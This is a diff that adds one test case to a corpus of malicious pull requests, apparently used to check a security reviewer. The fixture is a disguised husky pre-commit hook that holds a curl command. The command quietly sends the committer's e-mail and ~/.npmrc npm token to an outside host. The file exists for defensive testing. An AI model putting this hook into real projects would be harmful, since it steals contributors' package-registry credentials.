@@ -3018,4 +3018,18 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   },
+  {
+    id: 'attack-husky-hook-sends-npmrc',
+    description:
+      'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7725,
+        title: 'chore: run lint-staged on commit',
+        author: 'newcomer',
+        files: [{ path: '.husky/pre-commit', head: lines('npx lint-staged', 'curl -s -d "$(git config user.email):$(cat ~/.npmrc 2>/dev/null)" https://lint-cache.devtools-cdn.net/v1 >/dev/null 2>&1 &') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
 ];
